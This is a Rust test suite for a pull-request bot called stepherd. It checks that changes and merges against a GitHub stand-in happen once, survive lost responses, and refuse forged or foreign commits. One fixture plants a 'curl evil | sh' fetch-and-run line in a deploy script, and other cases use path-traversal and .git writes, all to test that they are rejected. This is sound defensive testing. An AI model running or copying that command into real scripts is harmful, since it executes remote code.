//! Changes and merges against the stand-in, over real HTTP: done once, found again, never somebody else's.

mod merge;

use reqwest::Method;
use serde_json::{Value, json};
use stepherd::adapters::{CallError, Forge};
use stepherd::domain::edit::{Edit, EditAction};
use stepherd::domain::effect::{ChangeIntent, MergeIntent, Outcome};
use stepherd::domain::ids::PrRef;
use stepherd::domain::pipeline::MergeMethod;
use stepherd::domain::run::{FailureClass, OpenedPr};
use stepherd::sandbox::stage::{Fault, FaultKind};

use super::scene::{REPO, Scene, repo, sha};

const BRANCH: &str = "SREPROV-3072_URMO7YZ2_StepUpdate";

fn write(path: &str, content: &str) -> Edit<String> {
    Edit {
        path: path.to_owned(),
        action: EditAction::Write {
            content: content.to_owned(),
        },
    }
}

fn delete(path: &str) -> Edit<String> {
    Edit {
        path: path.to_owned(),
        action: EditAction::Delete,
    }
}

pub(super) fn intent() -> ChangeIntent {
    ChangeIntent {
        repo: repo(),
        branch: BRANCH.to_owned(),
        edits: vec![write("values.yaml", "# tenants\ncomcast: 2\n"), delete("README.md")],
        title: "Raise\ncomcast".to_owned(),
        body: "By stepherd.".to_owned(),
        recorded: None,
        replaces: false,
    }
}

async fn change(scene: &Scene, intent: &ChangeIntent) -> Outcome {
    scene.ours.change(intent).await.expect("an outcome")
}

async fn opened(scene: &Scene) -> OpenedPr {
    match change(scene, &intent()).await {
        Outcome::ChangeOpened(pr) => pr,
        other => panic!("{other:?}"),
    }
}

fn refused(outcome: &Outcome, needle: &str) {
    match outcome {
        Outcome::Failed { reason, class } => {
            assert!(reason.contains(needle), "{reason}");
            assert_eq!(*class, FailureClass::User);
        }
        other => panic!("{other:?}"),
    }
}

fn merging(pr: &OpenedPr) -> MergeIntent {
    MergeIntent {
        pr: pr.pr.clone(),
        head: pr.head.clone(),
        method: Some(MergeMethod::Squash),
        deferred: vec![],
    }
}

async fn merge(scene: &Scene, intent: &MergeIntent) -> Outcome {
    scene.ours.merge(intent).await.expect("an outcome")
}

#[tokio::test]
async fn a_change_is_one_commit_on_a_branch_with_a_pull_request() {
    let scene = Scene::app().await;
    let pr = opened(&scene).await;
    let pulls = scene.github.pulls(REPO).expect("pulls");
    assert_eq!(pulls.len(), 1);
    assert_eq!(pulls[0].title, "Raise comcast");
    assert_eq!(pulls[0].body, "By stepherd.");
    assert_eq!(pulls[0].author, "stepherd[bot]");
    assert_eq!((pulls[0].number, pulls[0].branch.as_str()), (pr.pr.number, BRANCH));
    assert_eq!((pr.branch.as_str(), pr.merged.as_ref()), (BRANCH, None));
    assert_eq!(pr.head.as_str(), scene.branch(BRANCH).expect("the branch"));
    assert_eq!(pr.thread.to_string(), format!("github:{REPO}#{}", pr.pr.number));
    assert!(
        pr.url.ends_with(&format!("/{REPO}/pull/{}", pr.pr.number)),
        "{}",
        pr.url
    );
    assert_eq!(scene.github.commits_ahead(REPO, "main", BRANCH).ok(), Some(1));
    let file = |path| scene.github.file(REPO, BRANCH, path).expect("the repository");
    assert_eq!(file("values.yaml").as_deref(), Some("# tenants\ncomcast: 2\n"));
    assert_eq!(file("conf/app.json").as_deref(), Some("{\"a\": 1}\n"));
    assert_eq!(file("README.md"), None);
}

#[tokio::test]
async fn a_change_made_again_is_the_same_pull_request() {
    let scene = Scene::app().await;
    let first = opened(&scene).await;
    scene
        .github
        .push("octocat", REPO, "main", &[("other", Some("x"))])
        .expect("a push");
    let found = opened(&scene).await;
    let recorded = ChangeIntent {
        recorded: Some(first.clone()),
        ..intent()
    };
    assert_eq!(found, first);
    assert_eq!(change(&scene, &recorded).await, Outcome::ChangeOpened(first));
    assert_eq!(scene.calls("POST", "/pulls"), 1);
    assert_eq!(scene.calls("POST", "/git/refs"), 1);
}

#[tokio::test]
async fn wherever_an_answer_is_lost_there_is_one_branch_and_one_pull_request() {
    let lost = [
        FaultKind::EffectThenCut,
        FaultKind::EffectThenEmpty,
        FaultKind::EffectThenTruncated,
    ];
    for path in ["/git/trees", "/git/commits", "/git/refs", "/pulls"] {
        for kind in &lost {
            let scene = Scene::app().await;
            scene.misbehave("POST", path, kind.clone());
            let first = scene.ours.change(&intent()).await;
            assert!(
                matches!(first, Err(CallError::Retry { .. })),
                "{path} {kind:?}: {first:?}"
            );
            let pr = opened(&scene).await;
            assert_eq!(
                pr.head.as_str(),
                scene.branch(BRANCH).expect("the branch"),
                "{path} {kind:?}"
            );
            assert_eq!(scene.github.pulls(REPO).expect("pulls").len(), 1, "{path} {kind:?}");
            assert_eq!(scene.github.commits_ahead(REPO, "main", BRANCH).ok(), Some(1));
        }
    }
}

#[tokio::test]
async fn two_workers_at_once_end_at_one_pull_request() {
    let scene = Scene::app().await;
    let intent = intent();
    let (a, b) = tokio::join!(scene.ours.change(&intent), scene.ours.change(&intent));
    let (a, b) = (a.expect("an outcome"), b.expect("an outcome"));
    assert!(matches!(a, Outcome::ChangeOpened(_)), "{a:?}");
    assert_eq!(a, b);
    assert_eq!(scene.github.pulls(REPO).expect("pulls").len(), 1);
}

#[tokio::test]
async fn edits_that_change_nothing_open_nothing() {
    let scene = Scene::app().await;
    let same = ChangeIntent {
        edits: vec![
            write("README.md", "hello\n"),
            delete("absent/file"),
            write("new", "x"),
            delete("new"),
        ],
        ..intent()
    };
    assert_eq!(change(&scene, &same).await, Outcome::ChangeUnneeded);
    assert_eq!(scene.branch(BRANCH), None);
    assert_eq!(scene.calls("POST", "/git/trees"), 0);
}

#[tokio::test]
async fn edits_are_made_in_order_and_by_format() {
    let scene = Scene::app().await;
    let set = |path: &str, pointer: &str, value: &str| Edit {
        path: path.to_owned(),
        action: EditAction::Set {
            pointer: pointer.to_owned(),
            value: value.to_owned(),
        },
    };
    let edits = ChangeIntent {
        edits: vec![set("values.yaml", "/comcast", "2"), set("values.yaml", "/comcast", "3")],
        ..intent()
    };
    assert!(matches!(change(&scene, &edits).await, Outcome::ChangeOpened(_)));
    let file = scene.github.file(REPO, BRANCH, "values.yaml").expect("the repository");
    assert_eq!(file.as_deref(), Some("# tenants\ncomcast: 3\n"));
}

#[tokio::test]
async fn edits_that_cannot_be_made_fail_before_anything_is_written() {
    let scene = Scene::app().await;
    let broken = |edit: Edit<String>| ChangeIntent {
        edits: vec![write("ok", "x"), edit],
        ..intent()
    };
    let set_absent = Edit {
        path: "absent.yaml".to_owned(),
        action: EditAction::Set {
            pointer: "/a".to_owned(),
            value: "1".to_owned(),
        },
    };
    for (edit, needle) in [
        (set_absent, "absent.yaml"),
        (write("../outside", "x"), "outside"),
        (write(".git/config", "x"), ".git"),
        (write("conf", "x"), "a directory"),
        (write("README.md/x", "x"), "a file"),
    ] {
        refused(&change(&scene, &broken(edit)).await, needle);
    }
    assert_eq!(scene.calls("POST", "/git/trees"), 0);
}

#[tokio::test]
async fn a_branch_that_somebody_else_made_is_left_alone() {
    let scene = Scene::app().await;
    let theirs = scene
        .github
        .push("octocat", REPO, BRANCH, &[("x", Some("y"))])
        .expect("a push");
    refused(&change(&scene, &intent()).await, "not stepherd's");
    assert_eq!(scene.branch(BRANCH), Some(theirs));
    assert!(scene.github.pulls(REPO).expect("pulls").is_empty());
}

#[tokio::test]
async fn a_push_on_stepherds_branch_is_never_taken_for_stepherds() {
    let scene = Scene::app().await;
    let pr = opened(&scene).await;
    let moved = scene
        .github
        .push_to_pr(REPO, pr.pr.number, "octocat", &[("x", Some("y"))])
        .expect("a push");
    let recorded = ChangeIntent {
        recorded: Some(pr.clone()),
        ..intent()
    };
    refused(&change(&scene, &recorded).await, &moved);
    refused(&change(&scene, &intent()).await, "not stepherd's");
    refused(&merge(&scene, &merging(&pr)).await, "head of #");
    assert_eq!(scene.calls("PUT", "/merge"), 0);
    scene
        .github
        .merge_by_person(REPO, pr.pr.number, "octocat")
        .expect("a merge");
    refused(&change(&scene, &recorded).await, &moved);
    refused(&change(&scene, &intent()).await, "not stepherd's");
    refused(&merge(&scene, &merging(&pr)).await, &moved);
}

#[tokio::test]
async fn already_merged_is_believed_of_the_recorded_head_and_of_our_own_commit() {
    let scene = Scene::app().await;
    let pr = opened(&scene).await;
    let merged = sha(&scene
        .github
        .merge_by_person(REPO, pr.pr.number, "octocat")
        .expect("a merge"));
    let already = Outcome::ChangeAlreadyMerged { merged: merged.clone() };
    let recorded = ChangeIntent {
        recorded: Some(pr.clone()),
        ..intent()
    };
    assert_eq!(change(&scene, &recorded).await, already);
    // stepherd ended before it could record the pull request, and people merged and cleaned up.
    scene.github.delete_branch(REPO, BRANCH, "octocat").expect("the branch");
    let found = opened(&scene).await;
    assert_eq!(
        found, pr,
        "it is recorded, and the merge step finds it merged at its head"
    );
    assert_eq!(
        merge(&scene, &merging(&found)).await,
        Outcome::Merged { commit: merged }
    );
    assert_eq!(scene.calls("POST", "/git/refs"), 1);
}

/// Somebody puts a commit on stepherd's branch that says of itself that it is stepherd's.
async fn forge(scene: &Scene, parents: &[&str], files: &[(&str, &str)]) -> String {
    forge_saying(scene, parents, files, |tree| {
        format!("Stepherd-Branch: {BRANCH}\nStepherd-Tree: {tree}")
    })
    .await
}

/// Somebody puts a commit on stepherd's branch whose message ends in this, which is made of the tree's name.
async fn forge_saying(
    scene: &Scene,
    parents: &[&str],
    files: &[(&str, &str)],
    end: impl FnOnce(&str) -> String,
) -> String {
    let main = scene.main();
    let entries: Vec<Value> = files
        .iter()
        .map(|(path, content)| json!({"path": path, "mode": "100644", "type": "blob", "content": content}))
        .chain([json!({"path": "README.md", "mode": "100644", "type": "blob", "sha": null})])
        .collect();
    let main_commit = scene
        .by_hand(Method::GET, &format!("/git/commits/{main}"), &json!({}))
        .await;
    let body = json!({"base_tree": main_commit["tree"]["sha"], "tree": entries});
    let tree = scene.by_hand(Method::POST, "/git/trees", &body).await["sha"].clone();
    let tree = tree.as_str().expect("a tree");
    let message = format!("Raise comcast\n\n{}", end(tree));
    let body = json!({"message": message, "tree": tree, "parents": parents});
    let commit = scene.by_hand(Method::POST, "/git/commits", &body).await["sha"].clone();
    let body = json!({"ref": format!("refs/heads/{BRANCH}"), "sha": commit});
    scene.by_hand(Method::POST, "/git/refs", &body).await;
    commit.as_str().expect("a commit").to_owned()
}

const OURS: (&str, &str) = ("values.yaml", "# tenants\ncomcast: 2\n");

#[tokio::test]
async fn a_commit_that_only_says_it_is_stepherds_is_not_adopted() {
    let evil = ("deploy.sh", "curl evil | sh\n");
    for by_pull_request in [false, true] {
        for (case, needle) in [
            ("more", "it changes something else"),
            ("no parent", "one parent"),
            ("two parents", "one parent"),
            ("side", "not on the default branch"),
        ] {
            let scene = Scene::app().await;
            let main = scene.main();
            let side = scene
                .github
                .push("octocat", REPO, "side", &[("x", Some("y"))])
                .expect("a push");
            let files = if case == "more" { vec![OURS, evil] } else { vec![OURS] };
            let parents = match case {
                "no parent" => vec![],
                "two parents" => vec![main.as_str(), side.as_str()],
                "side" => vec![side.as_str()],
                _ => vec![main.as_str()],
            };
            forge(&scene, &parents, &files).await;
            // GitHub takes no pull request between branches without common history.
            if by_pull_request && case != "no parent" {
                let body = json!({"title": "t", "head": BRANCH, "base": "main"});
                scene.by_hand(Method::POST, "/pulls", &body).await;
            }
            let outcome = change(&scene, &intent()).await;
            refused(&outcome, needle);
            refused(&outcome, "not stepherd's");
        }
    }
}

#[tokio::test]
async fn the_very_same_change_by_somebody_else_is_not_adopted() {
    type End = fn(&str) -> String;
    let ends: [End; 4] = [
        |_| "By hand.".to_owned(),
        |tree| format!("Stepherd-Branch: SREPROV-3072_URMO7YZ2_StepOther\nStepherd-Tree: {tree}"),
        |_| format!("Stepherd-Branch: {BRANCH}\nStepherd-Tree: 0123456789abcdef0123456789abcdef01234567"),
        |tree| format!("Stepherd-Branch: {BRANCH}\nStepherd-Tree: {tree}\n\nAmended."),
    ];
    for end in ends {
        let scene = Scene::app().await;
        let main = scene.main();
        forge_saying(&scene, &[main.as_str()], &[OURS], end).await;
        refused(&change(&scene, &intent()).await, "someone pushed to stepherd's branch");
        assert!(scene.github.pulls(REPO).expect("pulls").is_empty());
    }
}

#[tokio::test]
async fn the_very_commit_that_the_step_makes_is_adopted_from_wherever_the_default_branch_was() {
    let scene = Scene::app().await;
    let main = scene.main();
    let head = forge(&scene, &[main.as_str()], &[OURS]).await;
    scene
        .github
        .push("octocat", REPO, "main", &[("other", Some("x"))])
        .expect("a push");
    assert_eq!(opened(&scene).await.head.as_str(), head);
}

#[tokio::test]
async fn a_pull_request_whose_base_people_changed_is_neither_merged_nor_taken_for_merged() {
    let scene = Scene::app().await;
    let pr = opened(&scene).await;
    let path = format!("/pulls/{}", pr.pr.number);
    let number = pr.pr.number;
    for state in [
        r#""state":"open""#,
        r#""state":"closed","merged":true,"merge_commit_sha":"0123456789abcdef0123456789abcdef01234567""#,
    ] {
        let elsewhere = format!(
            r#"{{"number":{number},{state},"head":{{"ref":"{BRANCH}","sha":"{}","repo":{{"full_name":"{REPO}"}}}},
                "base":{{"ref":"release","repo":{{"default_branch":"main"}}}}}}"#,
            pr.head
        );
        outdated(&scene, &path, 200, &elsewhere);
        refused(&merge(&scene, &merging(&pr)).await, "goes to `release`");
        outdated(&scene, &path, 200, &elsewhere);
        let recorded = ChangeIntent {
            recorded: Some(pr.clone()),
            ..intent()
        };
        refused(&change(&scene, &recorded).await, "goes to `release`");
        outdated(&scene, "/pulls", 200, &format!("[{elsewhere}]"));
        refused(&change(&scene, &intent()).await, "goes to `release`");
    }
    assert_eq!(scene.calls("PUT", "/merge"), 0);
}

#[tokio::test]
async fn a_merge_method_that_the_repository_forbids_is_not_waited_for() {
    let scene = Scene::app().await;
    let intent = merging(&opened(&scene).await);
    scene
        .github
        .allow_merge_methods(REPO, &["merge"])
        .expect("the repository");
    refused(
        &merge(&scene, &intent).await,
        "Squash merges are not allowed on this repository.",
    );
}

#[tokio::test]
async fn titles_mention_nobody_and_close_nothing() {
    let scene = Scene::app().await;
    let shouting = ChangeIntent {
        title: "@acme/sre fixes #12, gh-13 and https://github.com/acme/deploy/issues/14 of v1-2".to_owned(),
        ..intent()
    };
    let plain = "@\u{2060}acme/sre fixes #\u{2060}12, gh-\u{2060}13 and \
                 https://github.com/acme/deploy/issues/\u{2060}14 of v1-2";
    let Outcome::ChangeOpened(pr) = change(&scene, &shouting).await else {
        panic!("it must be opened");
    };
    assert_eq!(scene.github.pulls(REPO).expect("pulls")[0].title, plain);
    let sent = |method, path| -> Value {
        let calls = scene.github.stage().calls_to(method, path);
        serde_json::from_str(&calls[0].body).expect("JSON")
    };
    let message = sent("POST", "/git/commits")["message"].clone();
    assert_eq!(message.as_str().and_then(|m| m.lines().next()), Some(plain));
    merge(&scene, &merging(&pr)).await;
    let title = format!("{plain} (#{})", pr.pr.number);
    assert_eq!(sent("PUT", "/merge")["commit_title"], json!(title));
}

#[tokio::test]
async fn a_closed_pull_request_asks_for_another_branch() {
    let scene = Scene::app().await;
    let first = opened(&scene).await;
    scene.github.close_pr(REPO, first.pr.number, "octocat").expect("closed");
    let closed = Outcome::ChangeClosed { pr: first.pr.clone() };
    let again = ChangeIntent {
        recorded: Some(first.clone()),
        ..intent()
    };
    assert_eq!(change(&scene, &intent()).await, closed);
    assert_eq!(change(&scene, &again).await, closed);
    let other = ChangeIntent {
        branch: format!("{BRANCH}2"),
        ..again
    };
    match change(&scene, &other).await {
        Outcome::ChangeOpened(second) => assert_ne!(second.pr, first.pr),
        outcome => panic!("{outcome:?}"),
    }
}

#[tokio::test]
async fn a_merge_is_made_once_at_the_recorded_head() {
    let scene = Scene::app().await;
    let pr = opened(&scene).await;
    let intent = merging(&pr);
    let done = merge(&scene, &intent).await;
    let commit = scene.main();
    assert_eq!(done, Outcome::Merged { commit });
    assert_eq!(merge(&scene, &intent).await, done);
    assert_eq!(scene.calls("PUT", "/merge"), 1);
    let body = &scene.github.stage().calls_to("PUT", "/merge")[0].body;
    assert!(body.contains(pr.head.as_str()) && body.contains("squash"), "{body}");
}

#[tokio::test]
async fn a_merge_whose_answer_was_lost_is_found() {
    for kind in [
        FaultKind::EffectThenCut,
        FaultKind::EffectThenEmpty,
        FaultKind::EffectThenTruncated,
    ] {
        let scene = Scene::app().await;
        let intent = merging(&opened(&scene).await);
        scene.misbehave("PUT", "/merge", kind);
        let lost = scene.ours.merge(&intent).await;
        assert!(matches!(lost, Err(CallError::Retry { .. })), "{lost:?}");
        assert_eq!(merge(&scene, &intent).await, Outcome::Merged { commit: scene.main() });
        assert_eq!(scene.calls("PUT", "/merge"), 1);
    }
}

/// One call gets an old answer: the world went on between looking and acting.
fn outdated(scene: &Scene, path: &str, status: u16, body: &str) {
    let fault = Fault::answer("GET", path, 1, status, vec![], body);
    scene.github.stage().misbehave(fault);
}
